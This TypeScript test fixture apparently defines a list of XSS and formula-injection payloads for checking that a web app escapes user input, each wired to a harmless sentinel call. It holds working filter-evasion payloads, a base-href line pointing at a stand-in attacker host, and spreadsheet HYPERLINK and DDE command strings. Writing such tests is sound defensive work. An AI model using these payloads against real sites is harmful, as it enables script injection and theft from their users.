/**
 * Hostile text for the XSS suite (OWASP XSS filter-evasion cheat sheet styles). Payload `n` runs
 * `__xss(n)` if a page ever executes it, and loads `/xss-hit?n=n` if it is ever parsed as markup
 * (a same-origin load the page's CSP allows, so an injection is seen even where the CSP stops the
 * script). Every payload holds the letters "xss" (for searches), fits in 200 characters (the
 * shortest text field it is written to) and has no leading or trailing space (fields are trimmed).
 */

/** The sentinel a payload calls when it runs. */
export const XSS_SENTINEL = '__xss';
/** The path a payload loads when it is parsed as markup. */
export const XSS_HIT_PATH = '/xss-hit';

const hit = (n: number) => `${XSS_HIT_PATH}?n=${n}`;
const run = (n: number) => `${XSS_SENTINEL}(${n})`;

/** One payload per style; `n` is the payload's index. */
const STYLES: ReadonlyArray<(n: number) => string> = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<script src=${hit(n)}></script>`,
  (n) => `<img src=${hit(n)} onerror=${run(n)}>`,
  (n) => `<IMG SRC=${hit(n)} ONERROR=${run(n)}>`,
  (n) => `<ImG sRc=${hit(n)} oNeRrOr=${run(n)}>`,
  (n) => `<svg onload=${run(n)}><image href=${hit(n)} /></svg>`,
  (n) => `"><img src=${hit(n)} onerror=${run(n)}>`,
  (n) => `'><img src=${hit(n)} onerror=${run(n)}>`,
  (n) => `" onmouseover="${run(n)}" data-xss="`,
  (n) => `' autofocus onfocus='${run(n)}' data-xss='`,
  (n) => `</title><img src=${hit(n)} onerror=${run(n)}>`,
  (n) => `</textarea><img src=${hit(n)} onerror=${run(n)}>`,
  (n) => `</script><script>${run(n)}</script>`,
  (n) => `<iframe srcdoc="<img src=${hit(n)} onerror=parent.${run(n)}>"></iframe>`,
  (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  (n) => `<a href="javascript:${run(n)}">xss link</a>`,
  (n) => `javascript:${run(n)}`,
  (n) => `JaVaScRiPt:${run(n)}`,
  (n) => `java\tscript:${run(n)}`,
  (n) => `data:text/html,<script>${run(n)}</script>`,
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => `\${${run(n)}}`,
  (n) => `#{${run(n)}} <%= ${run(n)} %>`,
  (n) => `&lt;img src=${hit(n)} onerror=${run(n)}&gt;`,
  (n) => `&#60;img src=${hit(n)} onerror=${run(n)}&#62;`,
  (n) => `%3Cimg%20src%3D${encodeURIComponent(hit(n))}%20onerror%3D${run(n)}%3E`,
  (n) => `\\u003cimg src=${hit(n)} onerror=${run(n)}\\u003e`,
  (n) => `<div style="background:url(${hit(n)})">xss</div>`,
  (n) => `<div style="width:expression(${run(n)})">xss</div>`,
  (n) => `[xss](javascript:${run(n)})`,
  (n) => `![xss](${hit(n)})`,
  (n) => `<body onload=${run(n)}>xss`,
  (n) => `<details open ontoggle=${run(n)}>xss</details>`,
  (n) => `<input autofocus onfocus=${run(n)} value=xss>`,
  (n) => `<video><source src=${hit(n)} onerror=${run(n)}></video>`,
  (n) => `<audio src=${hit(n)} onerror=${run(n)}>`,
  (n) => `<object data=${hit(n)}>xss</object>`,
  (n) => `<embed src=${hit(n)}>xss`,
  (n) => `<link rel=stylesheet href=${hit(n)}>xss`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:${run(n)}">`,
  (n) => `<base href="//evil.example/xss${n}/">`,
  (n) => `<form action="javascript:${run(n)}"><button>xss</button></form>`,
  (n) => `<math><mtext><table><mglyph><style><img src=${hit(n)} onerror=${run(n)}>`,
  (n) => `<noscript><p title="</noscript><img src=${hit(n)} onerror=${run(n)}>">`,
  (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<img """><script>${run(n)}</script>">`,
  (n) => `<img src=${hit(n)} onerror="${run(n)}"//`,
  (n) => `<marquee onstart=${run(n)}>xss</marquee>`,
  (n) => `'';!--"<XSS${n}>=&{()}`,
  (n) => `<x onpointerover=${run(n)}>xss hover</x>`,
  (n) => `<img src=x:xss onerror=window['__x'+'ss'](${n})>`,
  (n) => `=HYPERLINK("https://evil.example/xss","${n}")`,
  (n) => `-2+3+cmd|' /C calc'!A0 xss${n}`,
];

/** The payloads, `XSS_PAYLOADS[n]` calling `__xss(n)` and loading `/xss-hit?n=n`. */
export const XSS_PAYLOADS: readonly string[] = STYLES.map((style, n) => style(n));

/** A short label of payload `n` (for messages). */
export const payloadLabel = (n: number): string => `#${n} ${JSON.stringify(XSS_PAYLOADS[n]).slice(0, 60)}`;
